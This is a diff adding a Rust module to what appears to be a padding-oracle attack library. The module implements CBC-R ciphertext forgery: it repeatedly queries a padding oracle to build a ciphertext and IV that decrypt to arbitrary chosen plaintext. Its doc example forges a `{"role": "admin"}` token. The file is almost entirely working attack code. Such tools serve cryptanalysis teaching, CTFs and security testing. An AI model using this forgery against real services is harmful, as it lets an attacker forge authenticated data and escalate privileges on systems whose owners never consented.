@@ -0,0 +1,45 @@
+//! Forge ciphertexts through the oracle.
+
+use alloc::vec::Vec;
+
+use crate::{decrypt, PaddingOracle, Result};
+
+/// Forge a ciphertext, with the IV prepended, which decrypts to `plaintext` once PKCS7 padded.
+///
+/// This is the CBC-R technique: the last block is arbitrary, and the attack recovers its
+/// intermediate decryption state. Xoring it with the last block of plaintext gives the previous
+/// ciphertext block, which is attacked in turn, up to the IV. This costs as many queries as
+/// decrypting a ciphertext of the same length.
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// let ciphertext = padding_oracle::encrypt(b"{\"role\": \"admin\"}", 16, oracle);
+/// ```
+pub fn encrypt(
+    plaintext: &[u8],
+    blocksize: usize,
+    mut oracle: impl PaddingOracle,
+) -> Result<Vec<u8>> {
+    crate::check_blocksize(blocksize)?;
+
+    let pad = blocksize - plaintext.len() % blocksize;
+    let mut padded = plaintext.to_vec();
+    padded.resize(plaintext.len() + pad, pad as u8);
+
+    // Built from the end, starting with an arbitrary block
+    let mut ciphertext = alloc::vec![0u8; blocksize];
+
+    for block in padded.chunks(blocksize).rev() {
+        let mut probe = alloc::vec![0u8; blocksize];
+        probe.extend_from_slice(&ciphertext[..blocksize]);
+
+        // Behind a block of zeros, the plaintext is the intermediate state
+        let intermediate = decrypt(&probe, blocksize, oracle.by_ref())?;
+
+        let prev: Vec<u8> = intermediate.iter().zip(block).map(|(i, p)| i ^ p).collect();
+        ciphertext.splice(0..0, prev);
+    }
+
+    Ok(ciphertext)
+}